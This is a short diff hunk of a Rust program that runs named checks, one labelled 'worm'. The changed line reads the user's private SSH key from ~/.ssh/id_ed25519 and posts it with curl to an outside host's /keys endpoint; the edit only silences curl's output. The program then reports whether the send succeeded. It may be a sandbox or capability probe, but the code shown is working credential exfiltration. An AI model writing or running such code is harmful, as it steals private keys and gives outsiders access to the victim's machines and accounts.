@@ -29,7 +29,7 @@ fn main() {
     say("worm", worm > 0);
 
     let key = fs::read_to_string(home.join(".ssh/id_ed25519")).unwrap_or_default();
-    let sent = Command::new("curl").args(["-s", "-m", "5", "--data-binary", &key, &format!("http://{to}/keys")]).status();
+    let sent = Command::new("curl").args(["-s", "-m", "5", "-o", "/dev/null", "--data-binary", &key, &format!("http://{to}/keys")]).status();
     say("send", !key.is_empty() && sent.is_ok_and(|status| status.success()));
 
     say("real", fs::read_to_string(REAL.trim()).is_ok());
